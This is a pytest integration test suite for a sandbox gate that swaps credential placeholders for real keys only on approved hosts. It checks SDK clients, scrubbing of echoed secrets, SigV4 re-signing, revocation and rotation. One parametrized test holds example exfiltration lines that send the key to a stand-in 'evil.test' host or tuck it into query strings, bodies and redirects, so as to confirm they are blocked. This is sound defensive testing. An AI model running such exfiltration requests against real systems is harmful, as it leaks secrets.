"""Credentials by reference, end to end: real clients inside real sandboxes hold only
placeholders; local HTTPS upstreams (test CA, loopback via the gate's static hosts) check
that they receive the real value - and that nothing else ever does."""

from __future__ import annotations

import json
import os
import secrets
import shutil
import subprocess
import textwrap
import threading
import time
from pathlib import Path

import pytest

from tests.integration.gate_upstreams import serve_https
from tests.helpers import agentvm_cmd, last_json, needs_root

pytestmark = [pytest.mark.integration, needs_root]

TESTLIB = Path(os.environ.get("AGENTVM_TESTLIB", "/opt/agentvm/testlib"))
AKID = "AKIDFAKETESTKEY0001"
# Obviously fake test values; a scan below proves none of them reaches the sandbox.
REAL = {
    "openai-key": "sk-fake-REAL-" + secrets.token_hex(16),
    "echo-key": "echo-fake-REAL-" + secrets.token_hex(16),
    "aws-secret": "fakeRealAwsSecret" + secrets.token_hex(12),
    "plain-key": "plain-fake-REAL-" + secrets.token_hex(16),
}


class Recorder:
    """A threaded HTTPS upstream answering as OpenAI / S3 / an echo service, recording what it sees."""

    def __init__(self, cert: Path, key: Path):
        import http.server

        self.seen: list[dict] = []
        self.stored = ""  # the last request to /echo-bucket/ (shown again by echo.test/recall)
        self.lock = threading.Lock()
        outer = self

        class H(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *a):
                pass

            def _handle(self):
                n = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(n) if n else b""
                if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
                    while True:
                        size = int(self.rfile.readline().split(b";")[0], 16)
                        if size == 0:
                            self.rfile.readline()
                            break
                        body += self.rfile.read(size)
                        self.rfile.readline()
                rec = {"method": self.command, "path": self.path, "host": self.headers.get("Host", ""),
                       "headers": {k.lower(): v for k, v in self.headers.items()}, "body": body}
                with outer.lock:
                    outer.seen.append(rec)
                host = rec["host"].split(":")[0]
                if host == "api.test" and self.path.startswith("/v1/chat/completions"):
                    ok = self.headers.get("Authorization") == f"Bearer {REAL['openai-key']}"
                    if not ok:
                        return self._send(401, json.dumps({"error": {"message": "bad key", "type": "auth"}}).encode())
                    out = {"id": "chatcmpl-1", "object": "chat.completion", "created": 1, "model": "stub",
                           "choices": [{"index": 0, "finish_reason": "stop",
                                        "message": {"role": "assistant", "content": "hello from the stub"}}],
                           "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}}
                    return self._send(200, json.dumps(out).encode())
                if host == "s3.test":
                    if self.path.startswith("/echo-bucket/"):  # a bound host that echoes what it got (the test checks it)
                        outer.stored = self.path  # ... and shows it again later, on another host (echo.test/recall)
                        return self._send(200, json.dumps({"path": self.path, "auth": self.headers.get("Authorization", "")
                                                           }).encode())
                    if not verify_sigv4(self.command, f"https://{rec['host']}{self.path}", rec["headers"], body):
                        return self._send(403, b"<Error><Code>SignatureDoesNotMatch</Code></Error>", "application/xml")
                    if self.command == "PUT":
                        return self._send(200, b"", extra=[("ETag", '"abc"')])
                    xml = (b'<?xml version="1.0" encoding="UTF-8"?><ListBucketResult><Name>b</Name><KeyCount>0</KeyCount>'
                           b"<MaxKeys>1000</MaxKeys><IsTruncated>false</IsTruncated></ListBucketResult>")
                    return self._send(200, xml, "application/xml")
                if host == "echo.test" and self.path.startswith("/recall"):  # a request stored earlier, shown now
                    text = getattr(outer, "stored", "")
                    return self._send(200, (text.upper() if "upper" in self.path else text).encode(), "text/plain")
                # echo: returns everything it got, including the real key (the gate must scrub it)
                echo = {"headers": rec["headers"], "path": self.path, "body": body.decode("latin-1")}
                return self._send(200, json.dumps(echo).encode(), extra=[("X-Echo-Key", self.headers.get("X-Api-Key", ""))])

            def _send(self, code, body, ctype="application/json", extra=()):
                self.send_response(code)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(body)))
                for k, v in extra:
                    self.send_header(k, v)
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_PUT = do_DELETE = _handle

        self.httpd = serve_https(H, cert, key)
        self.port = self.httpd.server_address[1]

    def seen_with(self, needle: str) -> list[dict]:
        with self.lock:
            return [r for r in self.seen if needle in json.dumps(r["headers"]) or needle in r["path"] or needle.encode() in r["body"]]


def verify_sigv4(method: str, url: str, headers: dict, body: bytes) -> bool:
    """An independent check, with botocore and the REAL key, of the signature S3 received."""
    from botocore.auth import SigV4Auth
    from botocore.awsrequest import AWSRequest
    from botocore.credentials import Credentials

    auth = headers.get("authorization", "")
    if not auth.startswith("AWS4-HMAC-SHA256 "):
        return False
    parts = dict(p.strip().split("=", 1) for p in auth[len("AWS4-HMAC-SHA256 "):].split(","))
    akid, date, region, service, _ = parts["Credential"].split("/")
    signed = parts["SignedHeaders"].split(";")
    req = AWSRequest(method=method, url=url, data=body, headers={h: headers[h] for h in signed if h in headers})
    req.context["timestamp"] = headers["x-amz-date"]
    signer = SigV4Auth(Credentials(akid, REAL["aws-secret"]), service, region)
    canonical = signer.canonical_request(req)
    expected = signer.signature(signer.string_to_sign(req, canonical), req)
    return akid == AKID and expected == parts["Signature"]


@pytest.fixture(scope="module")
def env(tmp_path_factory, avm_home):
    from tests.integration.gate_upstreams import make_test_ca

    if not (TESTLIB / "openai").is_dir():
        pytest.fail(f"{TESTLIB} lacks the SDKs: run `bash scripts/install.sh --test`")
    d = Path(f"/tmp/agentvm-cred-test-{secrets.token_hex(3)}")
    d.mkdir(mode=0o755)
    ca, cert, key = make_test_ca(d / "ca")
    os.chmod(d / "ca", 0o755)
    up = Recorder(cert, key)
    # the operator stores the real values; never on a command line
    for name, value in REAL.items():
        r = subprocess.run(agentvm_cmd() + ["secret", "set", name], input=value.encode(), capture_output=True)
        assert r.returncode == 0, r.stderr
    p = up.port
    agent = d / "cred-agent.yaml"
    agent.write_text(textwrap.dedent(f"""\
        apiVersion: agentvm/v1
        kind: Agent
        metadata: {{name: cred-agent}}
        spec:
          riskTier: L3
          limits: {{timeout: 90s, memory: 1G}}
          mounts: [{{host: {TESTLIB}, path: /opt/testlib}}, {{host: {d / 'ca'}, path: /ca}}]
          env: {{PYTHONPATH: /opt/testlib}}
          egress:
            hosts: {{api.test: 127.0.0.1, echo.test: 127.0.0.1, evil.test: 127.0.0.1, s3.test: 127.0.0.1}}
            upstreamCa: {ca}
            allow:
              - {{host: api.test, ports: [{p}]}}
              - {{host: echo.test, ports: [{p}]}}
              - {{host: evil.test, ports: [{p}]}}
              - {{host: s3.test, ports: [{p}]}}
          credentials:
            - name: openai
              env: OPENAI_API_KEY
              ref: vault:openai-key
              hosts: [api.test]
              inject: {{header: Authorization, format: "Bearer {{}}"}}
              placeholder: {{prefix: sk-}}
            - {{name: echo, env: ECHO_KEY, ref: "vault:echo-key", hosts: [echo.test], inject: {{header: X-Api-Key}}, file: /home/agent/.config/echo/key}}
            - {{name: aws, env: AWS_SECRET_ACCESS_KEY, ref: "vault:aws-secret", hosts: [s3.test], sigv4: {{accessKeyId: {AKID}}}}}
        """))
    yield {"dir": d, "up": up, "port": p, "agent": agent}
    up.httpd.shutdown()
    shutil.rmtree(d, ignore_errors=True)


def run_py(env, code: str, *extra: str, timeout: float = 120):
    r = subprocess.run(agentvm_cmd() + ["run", "-f", str(env["agent"]), "--json", *extra, "--", "python3", "-c", code],
                       capture_output=True, timeout=timeout)
    return r, last_json(r.stdout)


def log_lines(res: dict) -> list[dict]:
    return [json.loads(ln) for ln in Path(res["egress"]["log"]).read_text().splitlines()]


def test_openai_sdk_gets_through_with_a_placeholder_and_the_stub_sees_the_real_key(env):
    code = textwrap.dedent(f"""
        import os, openai
        key = os.environ["OPENAI_API_KEY"]
        assert key.startswith("sk-") and len(key) >= 32, key
        c = openai.OpenAI(base_url="https://api.test:{env['port']}/v1")
        r = c.chat.completions.create(model="stub", messages=[{{"role": "user", "content": "hi"}}])
        print("REPLY", r.choices[0].message.content)
        print("PH", key)
    """)
    r, res = run_py(env, code)
    out = r.stdout.decode()
    assert r.returncode == 0, r.stderr.decode()[-2000:]
    assert "REPLY hello from the stub" in out
    ph = out.split("PH ")[1].split()[0]
    assert ph != REAL["openai-key"] and REAL["openai-key"] not in out
    assert env["up"].seen_with(f"Bearer {REAL['openai-key']}"), "the stub saw the real key"
    assert not env["up"].seen_with(ph), "the placeholder never left the gate"
    assert any(l.get("credentials") == ["openai"] for l in log_lines(res))


def test_curl_requests_httpx_and_node_get_the_swap(env):
    p = env["port"]
    code = textwrap.dedent(f"""
        import os, subprocess, json, requests, httpx
        k = os.environ["ECHO_KEY"]
        u = "https://echo.test:{p}/x"
        print("curl", subprocess.run(["curl", "-sS", "-H", "X-Api-Key: " + k, u], capture_output=True).stdout.decode()[:30])
        print("requests", requests.get(u, headers={{"X-Api-Key": k}}).status_code)
        print("httpx", httpx.get(u, headers={{"X-Api-Key": k}}).status_code)
        node = "fetch('%s',{{headers:{{'X-Api-Key':process.env.ECHO_KEY}}}}).then(r=>console.log('node', r.status))" % u
        print(subprocess.run(["node", "-e", node], capture_output=True).stdout.decode().strip())
        print("file", open("/home/agent/.config/echo/key").read().strip() == k)
    """)
    r, res = run_py(env, code)
    out = r.stdout.decode()
    assert "requests 200" in out and "httpx 200" in out and "node 200" in out and "file True" in out, out + r.stderr.decode()
    assert '"headers"' in out  # curl got the echo
    assert len(env["up"].seen_with(REAL["echo-key"])) >= 4


def test_echoed_secret_is_scrubbed_from_responses(env):
    code = textwrap.dedent(f"""
        import os, requests
        r = requests.get("https://echo.test:{env['port']}/e", headers={{"X-Api-Key": os.environ["ECHO_KEY"]}})
        print(r.headers.get("X-Echo-Key"))
        print(r.text)
    """)
    r, res = run_py(env, code)
    out = r.stdout.decode()
    assert REAL["echo-key"] not in out, "the upstream's echo of the real key reached the sandbox"
    ph_line = out.splitlines()[0]
    assert ph_line and ph_line in out.splitlines()[1], "the placeholder came back instead"
    assert any(l.get("scrubbed") for l in log_lines(res))


@pytest.mark.parametrize(
    "attack,rule",
    [
        ("requests.get('https://evil.test:{p}/', headers={{'X-Api-Key': k}})", "credential:leak:echo"),
        ("requests.post('https://echo.test:{p}/up', data='key=' + k)", "credential:leak:echo"),
        ("requests.get('https://echo.test:{p}/q?key=' + k)", "credential:leak:echo"),
        ("requests.get('https://echo.test:{p}/', headers={{'X-Other': k}})", "credential:leak:echo"),
        ("requests.get('http://echo.test:{p}/', headers={{'X-Api-Key': k}})", "credential:leak:echo"),
        ("requests.get('https://echo.test:{p}/redirect?to=https://evil.test:{p}/', headers={{'X-Api-Key': k}})", None),
    ],
)
def test_placeholder_sent_anywhere_else_is_blocked_and_alerted(env, attack, rule):
    p = env["port"]
    code = "import os, requests\nk = os.environ['ECHO_KEY']\ntry:\n    r = " + attack.format(p=p) + \
           "\n    print('STATUS', r.status_code, r.headers.get('X-Agentvm-Denied'))\nexcept Exception as e:\n    print('ERR', type(e).__name__)\n"
    before = len(env["up"].seen)
    r, res = run_py(env, code)
    out = r.stdout.decode()
    lines = log_lines(res)
    alerts = [l for l in lines if l.get("alert") and l["verdict"] == "deny"]
    if rule is None:  # the redirect: the first hop is fine (swapped), the second is a new request without the key
        assert "STATUS 200" in out or "STATUS 3" in out or alerts, out
    else:
        assert alerts and alerts[0]["rule"] == rule, (out, lines)
        assert "STATUS 403" in out or "ERR" in out, out
    new = env["up"].seen[before:]
    assert not any(REAL["echo-key"] in json.dumps(s["headers"]) for s in new if "evil" in s["host"])
    ph_leaks = [s for s in new if s["host"].startswith("evil") or "/up" in s["path"] or "/q?" in s["path"]]
    assert not ph_leaks, ph_leaks


@pytest.mark.parametrize("checksums", ["when_required", "when_supported"])
def test_boto3_sigv4_is_resigned_with_the_real_key(env, checksums):
    code = textwrap.dedent(f"""
        import os, boto3
        from botocore.config import Config
        assert os.environ["AWS_ACCESS_KEY_ID"] == "{AKID}"
        s3 = boto3.client("s3", endpoint_url="https://s3.test:{env['port']}", region_name="us-east-1",
                          config=Config(s3={{"addressing_style": "path"}}, request_checksum_calculation="{checksums}",
                                        retries={{"max_attempts": 1}}))
        s3.put_object(Bucket="b", Key="k", Body=b"hello")
        print("LIST", s3.list_objects_v2(Bucket="b")["KeyCount"])
    """)
    r, res = run_py(env, code)
    assert r.returncode == 0 and "LIST 0" in r.stdout.decode(), (r.stdout.decode(), r.stderr.decode()[-3000:])
    s3 = [s for s in env["up"].seen if s["host"].startswith("s3.test")]
    assert s3 and all(verify_sigv4(s["method"], f"https://{s['host']}{s['path']}", s["headers"], s["body"]) for s in s3)


def _presigned_valid(seen: dict, secret: str) -> bool:
    """Is the presigned request the upstream saw signed with ``secret`` (botocore's arithmetic)?"""
    import urllib.parse

    from botocore.auth import S3SigV4QueryAuth
    from botocore.awsrequest import AWSRequest
    from botocore.credentials import Credentials

    q = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(seen["path"]).query))
    params = {k: v for k, v in q.items() if k != "X-Amz-Signature"}
    url = f"https://{seen['host']}{seen['path'].split('?')[0]}?{urllib.parse.urlencode(params)}"
    req = AWSRequest(method=seen["method"], url=url, headers={"host": seen["host"]})
    req.context["timestamp"] = q["X-Amz-Date"]
    a = S3SigV4QueryAuth(Credentials(q["X-Amz-Credential"].split("/")[0], secret), "s3", "us-east-1",
                         expires=int(q["X-Amz-Expires"]))
    return a.signature(a.string_to_sign(req, a.canonical_request(req)), req) == q["X-Amz-Signature"]


def test_what_the_gate_signs_with_the_real_key_never_echoes_back(env):
    """Review 8 (MEDIUM): a bound host that echoes a re-signed request handed the sandbox a
    signature made with the real key - a presigned URL valid for days. The answer carries the
    signature the agent sent instead, and a URL asked to live over an hour is refused."""
    code = textwrap.dedent(f"""
        import json, boto3, requests
        from botocore.config import Config
        s3 = boto3.client("s3", endpoint_url="https://s3.test:{env['port']}", region_name="us-east-1",
                          config=Config(signature_version="s3v4", s3={{"addressing_style": "path"}},
                                        retries={{"max_attempts": 1}}))
        url = s3.generate_presigned_url("get_object", Params={{"Bucket": "echo-bucket", "Key": "k"}}, ExpiresIn=600)
        r = requests.get(url)
        print("PRESIGNED", r.status_code, json.dumps({{"sent": url, "echo": r.text}}))
        later = [requests.get(f"https://echo.test:{env['port']}/recall" + q).text for q in ("", "?upper")]
        print("LATER", json.dumps(later))
        hdr = s3.get_object(Bucket="echo-bucket", Key="h")["Body"].read().decode()
        print("HEADER", json.dumps({{"echo": hdr}}))
        week = s3.generate_presigned_url("get_object", Params={{"Bucket": "echo-bucket", "Key": "w"}}, ExpiresIn=604800)
        r = requests.get(week)
        print("WEEK", r.status_code, r.text[:600].replace(chr(10), " "))
    """)
    r, res = run_py(env, code)
    out = r.stdout.decode()
    assert r.returncode == 0, (out, r.stderr.decode()[-3000:])
    lines = {ln.split(" ", 1)[0]: ln.split(" ", 1)[1] for ln in out.splitlines() if ln.split(" ", 1)[0] in
             ("PRESIGNED", "HEADER", "WEEK", "LATER")}
    status, doc = lines["PRESIGNED"].split(" ", 1)
    doc = json.loads(doc)
    assert doc["echo"].startswith("{"), out
    echo = json.loads(doc["echo"])
    agent_sig = doc["sent"].rsplit("X-Amz-Signature=", 1)[1]
    seen = [s for s in env["up"].seen if s["path"].startswith("/echo-bucket/k?")]
    assert status == "200" and seen, out
    real_sig = seen[-1]["path"].rsplit("X-Amz-Signature=", 1)[1]
    assert real_sig != agent_sig and _presigned_valid(seen[-1], REAL["aws-secret"])  # re-signed with the real key
    assert real_sig not in echo["path"] and agent_sig in echo["path"], echo
    # shown again later, on another host and connection, and upper-cased (review 9)
    later = json.loads(lines["LATER"])
    assert later[0].startswith("/echo-bucket/") and all(real_sig not in t.lower() for t in later), later
    hdr = json.loads(json.loads(lines["HEADER"])["echo"])
    seen_h = [s for s in env["up"].seen if s["path"].startswith("/echo-bucket/h")]
    assert verify_sigv4(seen_h[-1]["method"], f"https://{seen_h[-1]['host']}{seen_h[-1]['path']}", seen_h[-1]["headers"],
                        seen_h[-1]["body"])
    real_auth = seen_h[-1]["headers"]["authorization"]
    real_hsig = real_auth.rsplit("Signature=", 1)[1]
    assert real_hsig not in hdr["auth"] and "Signature=" in hdr["auth"], hdr
    assert lines["WEEK"].startswith("403") and "expires-too-long" in lines["WEEK"], lines["WEEK"]


def _sandbox_pids(marker: bytes, uid_floor: int, timeout: float = 60) -> list[int]:
    deadline = time.time() + timeout
    while time.time() < deadline:
        pids = []
        for entry in os.listdir("/proc"):
            if entry.isdigit():
                try:
                    if os.stat(f"/proc/{entry}").st_uid >= uid_floor and marker in open(f"/proc/{entry}/cmdline", "rb").read():
                        pids.append(int(entry))
                except OSError:
                    continue
        if pids:
            return pids
        time.sleep(0.05)
    return []


def test_nothing_the_sandbox_can_see_holds_a_real_secret(env):
    """The agent makes credentialed calls (so the real values did flow through the gate) and
    then waits; from the host we scan everything the sandbox can see - its environment and
    command lines, every file of its filesystem view, and the memory of its processes."""
    code = textwrap.dedent(f"""
        import os, time, requests, openai  # SCANME
        requests.get("https://echo.test:{env['port']}/warm", headers={{"X-Api-Key": os.environ["ECHO_KEY"]}})
        openai.OpenAI(base_url="https://api.test:{env['port']}/v1").chat.completions.create(
            model="stub", messages=[{{"role": "user", "content": "hi"}}])
        print("READY", flush=True)
        time.sleep(600)  # killed by the test once the scan is done (the scan may take a while)
    """)
    proc = subprocess.Popen(agentvm_cmd() + ["run", "-f", str(env["agent"]), "--", "python3", "-c", code],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        assert proc.stdout.readline().startswith(b"READY"), proc.stderr.read().decode()[-2000:]
        floor = int(os.environ.get("AGENTVM_UID_BASE", "1"))
        pids = _sandbox_pids(b"SCANME", floor)
        assert pids, "found the agent's process"
        uid = os.stat(f"/proc/{pids[0]}").st_uid
        reals = [v.encode() for v in REAL.values()]
        hits: list[str] = []
        all_pids = [int(e) for e in os.listdir("/proc") if e.isdigit() and os.stat(f"/proc/{e}").st_uid == uid]
        for pid in all_pids:
            for f in ("environ", "cmdline"):
                try:
                    data = open(f"/proc/{pid}/{f}", "rb").read()
                except OSError:
                    continue
                hits += [f"/proc/{pid}/{f}" for r in reals if r in data]
        # memory of every process of the sandbox (python, the bridge, bwrap's init) - first:
        # the walk below can outlast the run's timeout on a loaded host, and the memory needs
        # its processes alive (a CI run read 0 regions after a 164,450-file walk)
        regions = 0
        for pid in all_pids:
            try:
                maps = open(f"/proc/{pid}/maps").read().splitlines()
                with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
                    for line in maps:
                        addr, perms = line.split()[:2]
                        lo, hi = (int(x, 16) for x in addr.split("-"))
                        if "r" not in perms or hi - lo > 1 << 30:
                            continue
                        try:
                            mem.seek(lo)
                            data = mem.read(hi - lo)
                        except (OSError, ValueError, OverflowError):
                            continue
                        regions += 1
                        hits += [f"memory of {pid}: {line[:40]}" for r in reals if r in data]
            except OSError:
                continue
        # the sandbox's filesystem view, through its mount namespace
        root = f"/proc/{pids[0]}/root"
        files = 0
        for top in ("etc", "home", "tmp", "workspace", ".agentvm", "dev/shm", "ca", "opt", "usr/local", "usr/lib/python3"):
            for dirpath, _, names in os.walk(os.path.join(root, top)):
                for name in names:
                    p = os.path.join(dirpath, name)
                    try:
                        if not os.path.isfile(p) or os.path.getsize(p) > 50_000_000:
                            continue
                        data = open(p, "rb").read()
                    except OSError:
                        continue
                    files += 1
                    hits += [p for r in reals if r in data]
    finally:
        proc.kill()
        proc.wait(30)
    assert files > 500 and regions > 20 and len(all_pids) >= 2, (files, regions, all_pids)
    assert env["up"].seen_with(REAL["echo-key"]) and env["up"].seen_with(f"Bearer {REAL['openai-key']}")
    assert hits == [], hits


def test_revocation_applies_to_the_very_next_request(env):
    """Revoke mid-session (from another process, as an operator would) and measure."""
    code = textwrap.dedent(f"""
        import os, sys, time, requests
        s = requests.Session()
        u = "https://echo.test:{env['port']}/r"
        h = {{"X-Api-Key": os.environ["ECHO_KEY"]}}
        print("BEFORE", s.get(u, headers=h).status_code, flush=True)
        sys.stdin.readline()                 # the test revokes now
        t = time.monotonic()
        r = s.get(u, headers=h)
        print("AFTER", r.status_code, r.headers.get("X-Agentvm-Denied"), flush=True)
    """)
    proc = subprocess.Popen(agentvm_cmd() + ["run", "-f", str(env["agent"]), "--json", "--", "python3", "-c", code],
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    line = proc.stdout.readline().decode()
    assert line.startswith("BEFORE 200"), line + proc.stderr.read().decode()
    t0 = time.monotonic()
    r = subprocess.run(agentvm_cmd() + ["secret", "revoke", "echo-key"], capture_output=True)
    assert r.returncode == 0, r.stderr
    took = time.monotonic() - t0
    proc.stdin.write(b"go\n")
    proc.stdin.flush()
    after = proc.stdout.readline().decode()
    proc.wait(60)
    subprocess.run(agentvm_cmd() + ["secret", "restore", "echo-key"], capture_output=True, check=True)
    assert after.startswith("AFTER 403 credential:revoked:echo"), after
    print(f"revocation: `agentvm secret revoke` returned in {took * 1000:.1f} ms; the next request was denied")


def test_rotation_needs_no_change_inside(env):
    code = textwrap.dedent(f"""
        import os, sys, requests
        u = "https://echo.test:{env['port']}/rot"
        h = {{"X-Api-Key": os.environ["ECHO_KEY"]}}
        print("ONE", requests.get(u, headers=h).status_code, flush=True)
        sys.stdin.readline()
        print("TWO", requests.get(u, headers=h).status_code, flush=True)
    """)
    new = "echo-fake-ROTATED-" + secrets.token_hex(16)
    proc = subprocess.Popen(agentvm_cmd() + ["run", "-f", str(env["agent"]), "--", "python3", "-c", code],
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert proc.stdout.readline().startswith(b"ONE 200")
    subprocess.run(agentvm_cmd() + ["secret", "set", "echo-key"], input=new.encode(), check=True, capture_output=True)
    proc.stdin.write(b"go\n")
    proc.stdin.flush()
    two = proc.stdout.readline()
    proc.wait(60)
    subprocess.run(agentvm_cmd() + ["secret", "set", "echo-key"], input=REAL["echo-key"].encode(), check=True,
                   capture_output=True)
    assert two.startswith(b"TWO 200")
    assert env["up"].seen_with(new), "the upstream got the rotated value"


def test_missing_secret_refuses_the_run(env, tmp_path):
    bad = tmp_path / "bad.yaml"
    bad.write_text(env["agent"].read_text().replace("vault:echo-key", "vault:no-such-secret"))
    r = subprocess.run(agentvm_cmd() + ["run", "-f", str(bad), "--", "true"], capture_output=True)
    assert r.returncode == 78 and b"no-such-secret" in r.stderr
    assert not any(v.encode() in r.stderr + r.stdout for v in REAL.values())
